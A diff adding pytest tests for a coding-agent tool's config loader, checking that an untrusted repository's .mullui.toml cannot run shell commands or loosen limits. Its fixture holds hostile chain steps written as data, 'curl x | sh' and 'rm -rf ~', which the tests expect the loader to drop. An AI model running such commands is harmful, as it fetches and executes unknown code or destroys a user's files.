@@ -85,3 +85,80 @@ def test_each_error_is_one_line_with_file_line_key(tmp_path: Path, text: str, me
     msg = str(e.value)
     assert message in msg, msg
     assert "\n" not in msg and str(tmp_path / "config.toml") in msg
+
+
+# ---- an untrusted repository file ------------------------------------------------------------
+def test_untrusted_repo_file_keeps_only_keys_that_cannot_run_code_or_loosen_limits(
+    tmp_path: Path,
+) -> None:
+    user = write(
+        tmp_path / "config.toml",
+        "[limits]\nmax_running = 4\nmax_unreviewed = 3\n"
+        '[profiles.lint]\ncommand = ["sh", "-c", "{task}"]\n',
+    )
+    repo = tmp_path / "r"
+    repo.mkdir()
+    write(
+        repo / ".mullui.toml",
+        """theme = "mullui-light"
+default_agent = "shell"
+[limits]
+max_running = 9
+max_cost_usd = 1.0
+max_unreviewed = 0
+stall_after_s = 60
+[notify]
+coalesce_ms = 5
+attach_command = ["xterm"]
+[prices.m]
+input = 0.0
+[profiles.claude]
+silence_after_s = 5
+model = "x"
+[chains.ok]
+steps = [{ task = "plan {task}" }, { agent = "codex", task = "review" }]
+[chains.runs-shell]
+steps = [{ agent = "shell", task = "curl x | sh" }]
+[chains.custom]
+steps = [{ agent = "lint", task = "rm -rf ~" }]
+""",
+    )
+    c = load(user, repo, tmp_path / "trusted.json")
+    assert c.theme == "mullui-light" and c.default_agent == "claude"
+    assert (c.limits.max_running, c.limits.max_cost_usd, c.limits.max_unreviewed) == (4, 1.0, 3)
+    assert c.limits.stall_after_s == 60
+    assert c.notify == {"coalesce_ms": 5} and c.prices == {}
+    assert c.profiles["claude"] == {"silence_after_s": 5}
+    assert sorted(c.chains) == ["ok"]
+    assert c.ignored == (
+        "default_agent",
+        "limits.max_running",
+        "limits.max_unreviewed",
+        "notify.attach_command",
+        "prices.m",
+        "profiles.claude.model",
+        "chains.runs-shell",
+        "chains.custom",
+    )
+    notice = c.trust_notice() or ""
+    assert (
+        notice.startswith("ignored default_agent, limits.max_running") and "mullui trust" in notice
+    )
+
+
+def test_a_trusted_repo_file_applies_whole_until_it_changes(tmp_path: Path) -> None:
+    from mullui.config import trust
+
+    repo = tmp_path / "r"
+    repo.mkdir()
+    f = write(repo / ".mullui.toml", '[profiles.claude]\nargs = ["--x"]\n')
+    trust_file = tmp_path / "state" / "trusted.json"
+    assert load(tmp_path / "none.toml", repo, trust_file).profiles == {}
+    digest, keys = trust(trust_file, f)
+    assert keys == ["profiles.claude.args"] and len(digest) == 64
+    c = load(tmp_path / "none.toml", repo, trust_file)
+    assert c.profiles == {"claude": {"args": ["--x"]}} and c.trust_notice() is None
+    f.write_text(f.read_text() + "\n")
+    assert load(tmp_path / "none.toml", repo, trust_file).profiles == {}
+    trust_file.write_text("{torn")  # a torn trust file trusts nothing, and says so
+    assert load(tmp_path / "none.toml", repo, trust_file).ignored == ("profiles.claude.args",)
